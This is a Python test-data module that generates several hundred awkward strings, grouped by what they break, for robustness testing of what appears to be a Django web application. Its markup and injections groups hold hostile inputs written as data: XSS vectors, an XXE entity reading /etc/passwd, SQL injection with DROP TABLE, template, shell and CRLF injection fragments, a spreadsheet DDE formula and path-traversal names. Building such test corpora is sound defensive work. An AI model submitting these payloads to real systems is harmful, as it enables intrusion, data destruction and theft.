"""Some five hundred strings that break careless programs, by what they break."""

from __future__ import annotations

import itertools
import unicodedata
from collections.abc import Iterator


def _between(codes: list[int] | range) -> Iterator[str]:
    """Return each of these characters inside a word, where it is invisible."""
    return (f"甲{chr(code)}乙" for code in codes)


def blanks() -> Iterator[str]:
    spaces = [chr(code) for code in range(0x3001) if unicodedata.category(chr(code)) == "Zs"]
    yield from (char * 3 for char in spaces)
    yield from ("", " ", "\t", "\n", "\r\n\r\n", "\u3000" * 50, "".join(spaces))
    yield from (f"{char}甲{char}乙{char}" for char in spaces)


def controls() -> Iterator[str]:
    yield from _between(range(1, 32))
    yield from _between(range(0x7F, 0xA0))
    yield from ("甲\x00乙", "\x00", "甲\x00", "\x1b[31m红\x1b[0m", "\x07" * 20, "甲\x08\x08乙")


def invisible() -> Iterator[str]:
    marks = [0xAD, 0x34F, 0x61C, *range(0x200B, 0x2010), *range(0x202A, 0x202F)]
    marks += [*range(0x2060, 0x2065), *range(0x2066, 0x206A), 0xFEFF, 0x180E, 0x3164, 0xFFA0]
    yield from _between(marks)
    yield from (chr(mark) * 4 for mark in marks)
    yield from ("\ufeff带头标记", "\u202e倒着印的标题", "\u2067甲\u2066乙\u2069丙\u2069")
    yield "".join(chr(0xE0000 + ord(char)) for char in "hidden tag")


def lines() -> Iterator[str]:
    ends = ["\n", "\r", "\r\n", "\n\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\n\n\n"]
    yield from (f"上行{end}下行" for end in ends)
    yield from (f"{end}甲{end}" for end in ends)


def emoji() -> Iterator[str]:
    people, tones = "\U0001f469\U0001f468\U0001f9d1", [chr(c) for c in range(0x1F3FB, 0x1F400)]
    yield from (person + tone for person, tone in itertools.product(people, tones))
    yield from ("\u200d".join(people[:n]) for n in (2, 3))
    yield from (chr(0x1F1E6 + a) + chr(0x1F1E6 + b) for a, b in ((2, 13), (9, 15), (25, 25)))
    yield from (f"{char}\ufe0f\u20e3" for char in "0#*")
    yield from ("\U0001f4f0" * 100, "\U0001f3f4" + "\U000e0067\U000e0062\U000e007f", "\u2764\ufe0f")


def stacks() -> Iterator[str]:
    marks = [chr(code) for code in range(0x300, 0x316)]
    yield from (base + "".join(marks[:n]) for base in "a汉" for n in (1, 5, 22))
    yield from ("".join(f"{char}{''.join(marks)}" for char in "重叠符"), marks[0], "\u20dd甲")


def scripts() -> Iterator[str]:
    han = (0x3400, 0x9FFF, 0xF900, 0x20000, 0x2A6DF, 0x2B740, 0x2CEB0, 0x30000, 0x2F800, 0x3007)
    yield from ("".join(chr(code + n) for n in range(3)) for code in han)
    ranges = (0x5D0, 0x627, 0x905, 0xE01, 0x1100, 0xAC00, 0xFF66, 0xFF21, 0x2460, 0x1D400, 0x16A0)
    ranges += (0x2E80, 0x2FF0, 0x3105, 0xA000, 0xE000, 0xF0000, 0x13000, 0x2800, 0x10330, 0x1F650)
    yield from ("".join(chr(code + n) for n in range(6)) for code in ranges)
    yield from ("\u845b\U000e0100", "é", "e\u0301", "ü", "u\u0308", "\u1112\u1161\u11ab", "ﬁ", "Å")
    yield from ("ß", "İ", "ı", "ſ", "ǅ", "ﷺ" * 10, "①Ⅳ㈱㍿", "ｱｲｳﾞﾟ", "ＡＢＣ１２３", "￥＄％＆")


def not_characters() -> Iterator[str]:
    yield from _between([0xFFFD, 0xFFFE, 0xFFFF, 0xFDD0, 0x1FFFE, 0x10FFFF, 0xD800, 0xDFFF, 0xDC00])
    yield from ("\ud800\udc00", "\udc00\ud800", "\ud83d")


def markup() -> Iterator[str]:
    does = ("alert(1)", "import('//x.example')", "document.cookie=1")
    ways = (
        "<script>{}</script>",
        "<img src=x onerror={}>",
        "<svg/onload={}>",
        '"><script>{}</script>',
        "' onfocus={} autofocus='",
        "</textarea><script>{}</script>",
        "</title></style><script>{}</script>",
        "<a href='javascript:{}'>甲</a>",
        "javascript:{}",
        "<iframe srcdoc='<script>{}</script>'>",
        "<style>@import '{}'</style>",
        "<!--<script>{}--></script>",
        "<![CDATA[<script>{}</script>]]>",
        "<scr<script>ipt>{}</script>",
        "<math><mi xlink:href='javascript:{}'>",
        "&lt;script&gt;{}&lt;/script&gt;",
        "&#60;script&#62;{}&#60;/script&#62;",
        "\\u003cscript\\u003e{}",
        "%3Cscript%3E{}%3C/script%3E",
        "＜script＞{}＜/script＞",
        "<form action=//x.example><input name=a value='{}'>",
        "<meta http-equiv=refresh content='0;url={}'>",
        "<base href='//x.example/{}'>",
        "<p style='background:url({})'>甲</p>",
        "`${{{}}}`",
    )
    yield from (way.format(do) for way, do in itertools.product(ways, does))
    yield from ("<", ">", "&", '"', "'", "`", "&amp;", "&nbsp;", "<p>", "</p>", "<" * 300, "a<b>c")
    yield from (
        "&#0;",
        "&#xD800;",
        "&notanentity;",
        "<!doctype html>",
        "<?xml version='1.0'?>",
        "]]>",
    )
    yield "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"


def injections() -> Iterator[str]:
    ends = ("'", '"', "`", "')", "'))", "';", "\\'")
    yield from (f"甲{end} OR 1=1 --" for end in ends)
    yield from (f"1{end}; DROP TABLE articles_article; --" for end in ends)
    yield from (
        "%",
        "_",
        "%_%",
        "100%",
        "\\",
        "\\\\",
        "甲\\",
        "*",
        "?",
        "[",
        "(",
        "(?P<",
        "a" * 40 + "!",
    )
    yield from (
        "{{ 7*7 }}",
        "{% load static %}",
        "{% csrf_token %}",
        "{#",
        "{{",
        "}}",
        "{%",
        "${7*7}",
    )
    yield from ("#{7*7}", "<%= 7*7 %>", "@{7*7}", "*{7*7}", "[[7*7]]", "{0}", "{}", "{a.__class__}")
    yield from ("%s", "%n", "%d%d%d", "%(name)s", "%", "%%", "%1$s", "%x" * 20, "$1", "\\1", "$&")
    yield from (
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "&& id",
        "> /tmp/x",
        "$HOME",
        "${IFS}",
        "--help",
        "-rf",
    )
    yield from (
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
        "\t=1",
        "\r=1",
        "=HYPERLINK(1)",
    )
    yield from (
        "甲\r\nSet-Cookie: a=b",
        "甲%0d%0aX: y",
        "甲\nBcc: a@x.example",
        "*)(uid=*",
        "' or '1'='1",
    )
    yield from (
        "__proto__",
        "constructor",
        "toString",
        "__class__",
        "{'$gt': ''}",
        '{"a": 1}',
        "[1]",
        "//",
    )
    yield from (
        "a AND b",
        'NOT "甲"',
        "甲 NEAR 乙",
        "甲*",
        '"',
        '""',
        "headline:甲",
        "甲 & | !",
        "^甲",
        "-甲",
    )


def numbers() -> Iterator[str]:
    yield from (
        "0",
        "-0",
        "00",
        "1",
        "-1",
        "+1",
        "1e309",
        "-1e309",
        "1e-400",
        "1.",
        ".5",
        "0.1.2",
        "1,000",
    )
    yield from (
        "NaN",
        "nan",
        "Infinity",
        "-inf",
        "0x10",
        "0b1",
        "0o7",
        "1_000",
        "１２３",
        "٣",
        "Ⅳ",
        "½",
        "²",
    )
    yield from (str(2**n) for n in (15, 16, 31, 32, 53, 63, 64, 128))
    yield from (
        "9" * 19,
        "9" * 400,
        "-" + "9" * 40,
        "三百",
        "〇",
        "1/0",
        "0001-01-01",
        "9999-12-31",
    )
    yield from ("2022-02-30", "25:61", "2022-13-01T00:00", "1970-01-01T00:00:00Z", "1582-10-10")


def words() -> Iterator[str]:
    yield from (
        "None",
        "none",
        "null",
        "NULL",
        "nil",
        "undefined",
        "true",
        "True",
        "False",
        "TRUE",
        "on",
    )
    yield from (
        "yes",
        "no",
        "default",
        "self",
        "this",
        "class",
        "select",
        "__all__",
        "all",
        "object",
    )
    yield from (
        "admin",
        "root",
        "desk",
        "add",
        "change",
        "index",
        "id",
        "pk",
        "csrfmiddlewaretoken",
    )


def files() -> Iterator[str]:
    yield from (
        "../../etc/passwd",
        "..\\..\\windows",
        "/etc/passwd",
        "C:\\con",
        "file:///etc/passwd",
    )
    yield from (
        "CON",
        "nul",
        "aux.txt",
        "LPT1",
        ".",
        "..",
        "...",
        "~",
        ".htaccess",
        "a.",
        "a ",
        " a",
    )
    yield from (
        "甲/乙",
        "甲\\乙",
        "甲:乙",
        "甲?乙#丙",
        "%2e%2e%2f",
        "..%00.jpg",
        "甲.jpg\x00.exe",
        "a" * 256,
    )
    yield from (
        "http://x.example/",
        "//x.example",
        "data:text/html,甲",
        "mailto:a@x.example",
        "\\\\x\\y",
    )


def long() -> Iterator[str]:
    sizes = (
        10,
        20,
        21,
        40,
        41,
        60,
        61,
        80,
        120,
        121,
        150,
        200,
        201,
        300,
        301,
        500,
        501,
        1000,
        1001,
    )
    yield from ("长" * size for size in sizes)
    yield from ("a" * size for size in sizes)
    yield from ("长" * 5000, "a b " * 2000, "\n" * 2000, "，" * 400, "@" * 400, "𠀀" * 301)


GROUPS = (
    blanks,
    controls,
    invisible,
    lines,
    emoji,
    stacks,
    scripts,
    not_characters,
    markup,
    injections,
    numbers,
    words,
    files,
    long,
)
STRINGS: list[str] = list(dict.fromkeys(text for group in GROUPS for text in group()))
